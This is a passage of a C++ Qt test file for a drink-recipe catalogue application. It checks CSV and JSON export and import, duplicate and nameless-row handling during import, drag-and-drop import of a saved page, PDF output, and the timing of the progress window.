    const auto previous = pv::setFileChooser([&](const pv::FileRequest &) { return nextFile; });
    auto *main = pv::Screen().Load<frmMain>();
    pv::Screen().Show(main);
    QTRY_VERIFY(main->Data1->cursor());
    auto trigger = [main](const char *name) { main->findChild<QAction *>(QLatin1String(name))->trigger(); };

    // The Gin list, as CSV; the extension is added.
    trigger("mnuGin");
    QTest::mouseClick(main->cmdNext, Qt::LeftButton);
    const QString shown = main->fieldText(0);
    nextFile = dir.filePath(QStringLiteral("gin"));
    onDialog(QStringLiteral("frmExport"), [](QWidget *w) {
        auto *d = static_cast<pv::ExportDialog *>(w);
        QVERIFY(d->optCurrentList->text().contains(QStringLiteral("Gin (4 drinks)")));
        d->cboFormat->setCurrentIndex(1);
        QTest::mouseClick(d->cmdExport, Qt::LeftButton);
    });
    trigger("mnuFileExport");
    QCOMPARE(msgs.last(), QStringLiteral("Exported 4 drinks to %1.").arg(QDir::toNativeSeparators(nextFile + ".csv")));
    QCOMPARE(readDrinkFile(nextFile + ".csv").entries.size(), 4);

    // A hand-made CSV with a duplicate, a nameless row, a new drink and one
    // in a glass written otherwise.
    nextFile = dir.filePath(QStringLiteral("hand.csv"));
    writeFile(nextFile, "DrinkName,Glass,Category1,Qty1,Ing1\r\n\"Pink gin\",Cocktail,Gin,2 oz,Gin\r\n"
                        ",Tiki Mug,Tropical,,\r\nGin Fizz,Highball,Gin,2 oz,Gin\r\nGin Rickey,rocks glass,Gin,2 oz,Gin\r\n");
    onDialog(QStringLiteral("frmImportPreview"), [](QWidget *w) {
        auto *d = static_cast<pv::ImportPreview *>(w);
        QStringList actions;
        for (int row = 0; row < d->grdPreview->rowCount(); ++row)
            actions << d->grdPreview->item(row, 2)->text() + ": " + d->grdPreview->item(row, 3)->text();
        QCOMPARE(actions, (QStringList{"Skip: already there as 'Pink Gin'", "Refused: the drink has no name", "Add: ",
                                       "Add: glass 'rocks glass' has no picture"}));
        QCOMPARE(d->lblNotes->text(), QStringLiteral("1 drink uses a glass with no picture: rocks glass"));
        QCOMPARE(d->chkOffers.size(), 1);
        QCOMPARE(d->chkOffers[0]->text(), QStringLiteral("Use the glass 'Old-Fashioned' for 'rocks glass' (1 drink)"));
        QVERIFY(!d->chkOffers[0]->isChecked());
        QTest::mouseClick(d->chkOffers[0], Qt::LeftButton);
        d->cboAllDuplicates->setCurrentIndex(2);
        QTest::mouseClick(d->cmdApplyAll, Qt::LeftButton);
        QCOMPARE(d->grdPreview->item(0, 2)->text(), QStringLiteral("Keep both"));
        QTest::mouseClick(d->cmdImport, Qt::LeftButton);
    });
    trigger("mnuFileImport");
    QCOMPARE(msgs.last(), QStringLiteral("Imported 3 drinks; refused 1 (line 3: the drink has no name)."));
    QCOMPARE(pvtest::queryColumn(app.catalogue(), "SELECT Glass FROM drinklst WHERE DrinkName = 'Gin Rickey'"),
             QStringList{"Old-Fashioned"});
    // Still on its drink, and the Gin list holds the new ones.
    QCOMPARE(main->fieldText(0), shown);
    QCOMPARE(main->Data1->recordset().RecordCount(), 7);

    // A saved page dropped on the window is imported as File > Import does.
    QMimeData mime;
    mime.setUrls({QUrl::fromLocalFile(QStringLiteral(PV_SOURCE_DIR "/tests/interchange/pages/graph.html"))});
    onDialog(QStringLiteral("frmImportPreview"), [](QWidget *w) {
        auto *d = static_cast<pv::ImportPreview *>(w);
        QCOMPARE(d->grdPreview->item(0, 0)->text(), QStringLiteral("Gin & Juice"));
        QVERIFY(d->txtDrink->toPlainText().contains(QStringLiteral("Glass: Cocktail")));
        QTest::mouseClick(d->cmdImport, Qt::LeftButton);
    });
    // The drag enters first: the toolkit hands a drop only to the widget
    // that took the drag.
    QDragEnterEvent enter(QPoint(10, 10), Qt::CopyAction, &mime, Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(main, &enter);
    QVERIFY(enter.isAccepted());
    QDropEvent drop(QPointF(10, 10), Qt::CopyAction, &mime, Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(main, &drop);
    QVERIFY(drop.isAccepted());
    QTRY_VERIFY(msgs.last().startsWith(QStringLiteral("Imported 1 drink.")));

    // The recipe on screen as a PDF, read back.
    nextFile = dir.filePath(QStringLiteral("recipe.pdf"));
    trigger("mnuFileSavePdf");
    if (QStandardPaths::findExecutable(QStringLiteral("pdftotext")).isEmpty())
        QSKIP("pdftotext (poppler-utils) is not installed");
    QProcess p;
    p.start(QStringLiteral("pdftotext"), {nextFile, QStringLiteral("-")});
    QVERIFY(p.waitForFinished(30000));
    const QString text = QString::fromUtf8(p.readAllStandardOutput());
    // The drink's name is the heading, the first line of the page.
    QVERIFY2(text.trimmed().startsWith(shown) && text.contains(QStringLiteral("Directions")) &&
                 text.contains(QStringLiteral("Gin")),
             qPrintable(text));
    pv::setFileChooser(previous);
    pvtest::unloadAll();
}

// Export and import from the File menu: the progress window is up while the
// work runs and gone before the message about its end, and it does not come
// back while that message is read.
void TestInterchange::progressOnlyWhileWorkRuns()
{
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    QTemporaryDir dir;
    QString nextFile;
    const auto previousChooser = pv::setFileChooser([&](const pv::FileRequest &) { return nextFile; });
    pv::WorkProgress::setDelayMs(0);
    auto progressShown = [] {
        for (QWidget *w : QApplication::topLevelWidgets())
            if (w->objectName() == QLatin1String("dlgProgress") && w->isVisible())
                return true;
        return false;
    };
    // What the message saw, and whether the window showed before it.
    struct Seen {
        QString prompt;
        bool progressUnder = false;
        bool progressAfter = false;
    } seen;
    bool shownWhileRunning = false;
    QTimer watch;
    QObject::connect(&watch, &QTimer::timeout, [&] { shownWhileRunning = shownWhileRunning || progressShown(); });
    watch.start(1);
    const auto previousBox = pv::Screen().setMsgBoxHandler([&](const pv::MsgBoxCall &call) {
        seen.prompt = call.prompt;
        seen.progressUnder = progressShown();
        // The message stays up a while, as a person reads it.
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < 700) {
            QApplication::processEvents(QEventLoop::AllEvents, 20);
            seen.progressAfter = seen.progressAfter || progressShown();
        }
        return int(pv::vbOK);
    });
    auto *main = pv::Screen().Load<frmMain>();
    pv::Screen().Show(main);
    QTRY_VERIFY(main->Data1->cursor());
    auto trigger = [main](const char *name) { main->findChild<QAction *>(QLatin1String(name))->trigger(); };

    QByteArray csv = "DrinkName,Glass,Category1,Qty1,Ing1\r\n";
    for (int i = 0; i < 1100; ++i)
        csv += QStringLiteral("Test Gin %1,Cocktail,Gin,2 oz,Gin\r\n").arg(i, 4, 10, QLatin1Char('0')).toUtf8();
    writeFile(dir.filePath("many.csv"), csv);
    struct Step {
        const char *command;
        const char *dialog;
        const char *button;
        QString file;
        QString said;
        bool long_; // long enough to report before its end
    };
    const QList<Step> steps = {
        {"mnuFileExport", "frmExport", "cmdExport", dir.filePath("few.json"), "Exported 8 drinks", false},
        {"mnuFileImport", "frmImportPreview", "cmdImport", dir.filePath("many.csv"), "Imported 1100 drinks", true},
        {"mnuFileExport", "frmExport", "cmdExport", dir.filePath("all.json"), "Exported 1108 drinks", true},
    };
    for (const Step &step : steps) {
        seen = Seen();
        shownWhileRunning = false;
        nextFile = step.file;
        const QString button = QLatin1String(step.button);
        onDialog(QLatin1String(step.dialog), [button](QWidget *w) {
            QTest::mouseClick(w->findChild<QPushButton *>(button), Qt::LeftButton);
        });
        trigger(step.command);
        QVERIFY2(seen.prompt.startsWith(step.said), qPrintable(seen.prompt));
        QVERIFY2(!seen.progressUnder, step.command);
        QVERIFY2(!seen.progressAfter, step.command);
        QCOMPARE(progressShown(), false);
        if (step.long_)
            QVERIFY2(shownWhileRunning, step.command);
    }
    pv::Screen().setMsgBoxHandler(previousBox);
    pv::setFileChooser(previousChooser);
    pv::WorkProgress::setDelayMs(400);
    pvtest::unloadAll();
}

PV_TEST_MAIN(TestInterchange)
#include "tst_interchange.moc"
